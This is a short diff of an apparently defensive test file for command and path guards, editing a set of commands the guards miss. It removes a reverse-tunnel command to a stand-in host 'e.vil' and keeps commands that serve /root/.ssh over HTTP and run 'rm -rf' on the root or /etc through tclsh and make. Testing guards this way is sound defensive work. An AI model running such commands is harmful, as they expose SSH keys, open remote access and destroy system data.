@@ -15,7 +15,6 @@ _HERE = Path(__file__).parent
 _GUARDS = (CommandGuard(), PathGuard())
 _MISSED = frozenset(
     {
-        "chisel client e.vil:80 R:22:localhost:22",
         """python3 -c 'import http.server,os; os.chdir("/root/.ssh"); http.server.test()'""",
         "tclsh <<< 'eval exec {rm -rf /}'",
         r"make -C / -f - <<< $'x:\n\trm -rf etc'",
